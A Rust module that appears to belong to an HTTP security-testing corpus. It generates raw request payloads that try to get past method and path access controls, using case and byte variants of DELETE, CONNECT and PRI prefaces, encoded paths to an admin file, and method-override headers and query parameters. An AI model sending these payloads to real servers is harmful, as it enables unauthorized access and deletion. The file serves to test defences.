//! Methods that are written in other ways, or asked for in other places than the request line.

use super::{Attack, Class, raw};
use crate::estate::HOST;

pub(super) fn add(all: &mut Vec<Attack>) {
    tokens(all);
    overrides(all);
}

fn tokens(all: &mut Vec<Attack>) {
    let mut add = |method: &str, target: &str, host: &str| {
        raw(all, Class::Method, format!("{method} {target} HTTP/1.1\r\nhost: {host}\r\n\r\n"));
    };
    // Every way to write DELETE in two cases.
    for mask in 0..64u32 {
        let method: String = ("DELETE".chars().enumerate())
            .map(|(at, letter)| if mask >> at & 1 == 1 { letter.to_ascii_lowercase() } else { letter })
            .collect();
        for target in ["/orders/7", "/orders/7/", "/ord%65rs/7"] {
            add(&method, target, HOST);
        }
    }
    for method in [
        "get",
        "Get",
        "GeT",
        "HEAD",
        "head",
        "POST",
        "post",
        "PUT",
        "PATCH",
        "OPTIONS",
        "TRACE",
        "trace",
        "CONNECT",
        "connect",
        "PRI",
        "FROB",
        "PROPFIND",
        "SEARCH",
        "GET/",
        "G@T",
        "GET\0",
        "\0GET",
        "GET\x0b",
        "GET:",
        "GET,",
        "\"GET\"",
        "ＧET",
        "DELETE\0",
        "DELETE\x0b",
        "DELETE,GET",
    ] {
        for target in ["/admin/secret.txt", "/%61dmin/secret.txt", "/public/../admin/secret.txt", "/orders/7", "*"] {
            add(method, target, HOST);
        }
    }
    for length in [32, 33, 64, 255, 1000, 8000, 15_000] {
        add(&"A".repeat(length), "/admin/secret.txt", HOST);
        add(&format!("DELETE{}", "E".repeat(length)), "/orders/7", HOST);
    }
    for host in [HOST, "admin.example.com"] {
        for target in [
            "admin.example.com:443",
            "admin.example.com:80",
            "www.example.com:80",
            "/admin/secret.txt",
            "http://admin.example.com/secret.txt",
            "*",
            ":80",
            "admin.example.com",
        ] {
            for method in ["CONNECT", "connect", "GET", "OPTIONS", "TRACE"] {
                add(method, target, host);
            }
        }
    }
    let preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    raw(all, Class::Method, preface);
    raw(all, Class::Method, format!("{preface}GET /admin/secret.txt HTTP/1.1\r\nhost: {HOST}\r\n\r\n"));
    raw(all, Class::Method, format!("PRI /admin/secret.txt HTTP/2.0\r\n\r\nSM\r\n\r\nhost: {HOST}\r\n\r\n"));
}

fn overrides(all: &mut Vec<Attack>) {
    let mut add = |method: &str, target: &str, fields: &str| {
        raw(all, Class::MethodOverride, format!("{method} {target} HTTP/1.1\r\nhost: {HOST}\r\n{fields}\r\n"));
    };
    for method in ["POST", "GET", "PUT"] {
        for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
            let others = "_.~!|"
                .chars()
                .flat_map(|c| [name.replace('-', &c.to_string()), name.replacen('-', &c.to_string(), 1)]);
            let last = name.rfind('-').map(|at| format!("{}_{}", &name[..at], &name[at + 1..]));
            let names = [name.to_owned(), name.to_uppercase(), name.replace("x-", "X-")];
            for name in names.into_iter().chain(others).chain(last) {
                for value in ["DELETE", " delete "] {
                    add(method, "/orders/7", &format!("{name}: {value}\r\n"));
                    add(method, "/orders/7", &format!("{name}: GET\r\n{name}: {value}\r\n"));
                    add(method, "/orders/7", &format!("x: \0\r\n{name}: {value}\r\n"));
                    add(method, "/orders/7", &format!("{name}:\r\n {value}\r\n"));
                }
            }
        }
        for query in [
            "_method=DELETE",
            "_method=delete",
            "a=b&_method=DELETE",
            "a=b;_method=DELETE",
            "%5fmethod=DELETE",
            "_METHOD=DELETE",
            "_method=DELET%45",
            "_%6dethod=DELETE",
            "_method=GET&_method=DELETE",
            "&_method=DELETE",
            "?&_method=DELETE",
            "x&%5Fmethod=%44ELETE",
        ] {
            add(method, &format!("/orders/7?{query}"), "");
        }
    }
}
